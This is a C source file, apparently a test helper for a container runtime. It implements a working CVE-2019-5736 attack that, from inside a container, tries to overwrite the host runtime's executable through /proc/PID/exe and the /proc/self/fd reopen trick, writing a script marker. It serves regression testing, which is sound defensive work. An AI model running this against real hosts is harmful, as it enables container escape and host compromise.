/* atk_exe - hostile process for the CVE-2019-5736 tests: it hunts, from inside a container, for
 * any process whose executable is not one of the container's own files (the runtime, or a
 * runtime re-executed through #!/proc/self/exe) and tries to overwrite that executable.
 *
 *   atk_exe SECONDS [IGNORE_PATH...]
 *
 * For every new target it opens /proc/PID/exe with O_PATH and keeps that fd, then tries
 * O_WRONLY on /proc/self/fd/N (the reopen trick that beats ETXTBSY once the runtime has exited)
 * and O_WRONLY|O_TRUNC on /proc/PID/exe directly. The held fds are retried on every pass until
 * SECONDS have passed. Executables whose device:inode match IGNORE_PATH (e.g. /bin/busybox) or
 * this program are not targets. Output, one line each:
 *   target PID LINK opath=R reopen=R direct=R     (R: ok or the errno name)
 *   WROTE PID via reopen|direct|late              (an executable was opened for writing: a bug)
 *   done targets=N writes=M
 * Runs inside test containers only, so it may exit on error. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAX_IGNORE 16
#define MAX_HELD   256

struct held {
    int pid;
    int fd;
};

static const char *res(int r)
{
    if (r == 0)
        return "ok";
    switch (r) {
    case EROFS:
        return "EROFS";
    case EACCES:
        return "EACCES";
    case EPERM:
        return "EPERM";
    case ENOENT:
        return "ENOENT";
    case ETXTBSY:
        return "ETXTBSY";
    case ESRCH:
        return "ESRCH";
    default:
        return strerror(r);
    }
}

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Open PATH for writing; on success write a marker and report 0, else the errno. */
static int try_write(const char *path, int flags)
{
    int fd = open(path, flags | O_CLOEXEC);
    if (fd < 0)
        return errno;
    ssize_t n = write(fd, "#!/bin/sh\necho pwned\n", 21);
    (void)n;
    close(fd);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc < 2) {
        fprintf(stderr, "usage: atk_exe SECONDS [IGNORE_PATH...]\n");
        return 2;
    }
    double end = now() + atof(argv[1]);
    struct stat ign[MAX_IGNORE + 1];
    int nign = 0;
    if (stat("/proc/self/exe", &ign[nign]) == 0)
        nign++;
    for (int i = 2; i < argc && nign <= MAX_IGNORE; i++)
        if (stat(argv[i], &ign[nign]) == 0)
            nign++;
    setvbuf(stdout, NULL, _IOLBF, 0);

    struct held held[MAX_HELD];
    int nheld = 0, targets = 0, writes = 0;
    int self = getpid();
    while (now() < end) {
        DIR *d = opendir("/proc");
        if (d == NULL) {
            perror("atk_exe: /proc");
            return 1;
        }
        struct dirent *de;
        while ((de = readdir(d)) != NULL) {
            int pid = atoi(de->d_name);
            if (pid <= 0 || pid == self)
                continue;
            bool seen = false;
            for (int i = 0; i < nheld; i++)
                seen = seen || held[i].pid == pid;
            if (seen)
                continue;
            char path[64], link[PATH_MAX] = "";
            snprintf(path, sizeof(path), "/proc/%d/exe", pid);
            struct stat st;
            if (stat(path, &st) < 0) {
                /* EACCES here is the runtime being non-dumpable: still a target worth noting
                 * once, since a process we cannot inspect may be the runtime. */
                if (errno != EACCES || nheld >= MAX_HELD)
                    continue;
                held[nheld++] = (struct held){pid, -1};
                targets++;
                printf("target %d ? opath=%s reopen=- direct=%s\n", pid, res(EACCES),
                       res(try_write(path, O_WRONLY | O_TRUNC)));
                continue;
            }
            bool ignored = false;
            for (int i = 0; i < nign; i++)
                ignored = ignored || (st.st_dev == ign[i].st_dev && st.st_ino == ign[i].st_ino);
            if (ignored || nheld >= MAX_HELD)
                continue;
            ssize_t n = readlink(path, link, sizeof(link) - 1);
            if (n >= 0)
                link[n] = '\0';
            int fd = open(path, O_PATH | O_CLOEXEC);
            int ofd = fd < 0 ? errno : 0;
            held[nheld++] = (struct held){pid, fd};
            targets++;
            int reopen = -1;
            if (fd >= 0) {
                char fdpath[64];
                snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", fd);
                reopen = try_write(fdpath, O_WRONLY);
            }
            int direct = try_write(path, O_WRONLY | O_TRUNC);
            printf("target %d %s opath=%s reopen=%s direct=%s\n", pid, link, res(ofd),
                   reopen < 0 ? "-" : res(reopen), res(direct));
            if (reopen == 0) {
                printf("WROTE %d via reopen\n", pid);
                writes++;
            }
            if (direct == 0) {
                printf("WROTE %d via direct\n", pid);
                writes++;
            }
        }
        closedir(d);
        /* The classic attack: keep the O_PATH fd and retry after the runtime has exited, when
         * ETXTBSY no longer protects the file. */
        for (int i = 0; i < nheld; i++) {
            if (held[i].fd < 0)
                continue;
            char fdpath[64];
            snprintf(fdpath, sizeof(fdpath), "/proc/self/fd/%d", held[i].fd);
            if (try_write(fdpath, O_WRONLY) == 0) {
                printf("WROTE %d via late\n", held[i].pid);
                writes++;
                close(held[i].fd);
                held[i].fd = -1;
            }
        }
    }
    printf("done targets=%d writes=%d\n", targets, writes);
    return 0;
}
